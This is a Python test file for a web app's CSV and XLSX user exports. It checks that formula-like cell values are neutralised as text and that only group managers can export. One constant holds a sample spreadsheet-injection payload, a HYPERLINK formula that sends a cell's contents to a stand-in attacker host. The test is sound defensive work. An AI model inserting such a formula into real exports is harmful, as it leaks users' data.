"""Exports: cells a spreadsheet would run as formulas come out as text; who may export users."""

import csv
import io

from bs4 import BeautifulSoup
from factories import make_application, make_group, make_user
from openpyxl import load_workbook

from app import exports

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_every_formula_prefix_is_neutralised_and_nothing_else():
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.safe_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert exports.safe_cell("Dupont") == "Dupont"
    assert exports.safe_cell("a=b") == "a=b"
    assert exports.safe_cell(12) == 12


async def test_users_export_writes_a_formula_name_as_text_in_csv_and_xlsx(client, login):
    group = await make_group(name="@SUM(1+1)")
    boss = await make_user(manager_of=[group], helper_in=[group], email="resp@caf.fr")
    await make_user(helper_in=[group], first_name=FORMULA, last_name="+33 6 12", email="x@caf.fr")
    await login(boss)

    response = await client.get("/groupes/export.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in rows if r[4] == "x@caf.fr")
    assert row[:3] == ["'@SUM(1+1)", "'" + FORMULA, "'+33 6 12"]

    response = await client.get("/groupes/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = next(r for r in sheet.iter_rows() if r[4].value == "x@caf.fr")
    assert [c.value for c in cells[:3]] == ["'@SUM(1+1)", "'" + FORMULA, "'+33 6 12"]
    assert [c.data_type for c in cells[:3]] == ["s", "s", "s"]


async def test_users_export_is_for_responsables_not_every_member(client, login):
    group = await make_group()
    member = await make_user(helper_in=[group], instructor_in=[group])
    await login(member)
    page = BeautifulSoup((await client.get("/groupes")).text, "html.parser")
    assert page.select('a[href^="/groupes/export"]') == []
    assert (await client.get("/groupes/export.csv")).status_code == 403
    assert (await client.get("/groupes/export.xlsx")).status_code == 403


async def test_inbox_export_writes_a_formula_group_name_as_text(client, login):
    mine = await make_group(name="Aidants")
    target = await make_group(name="-2+3")
    me = await make_user(helper_in=[mine])
    await make_application(by=me, from_group=mine, to=[target])
    await login(me)
    response = await client.get("/demandes/export.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][4] == "'-2+3"
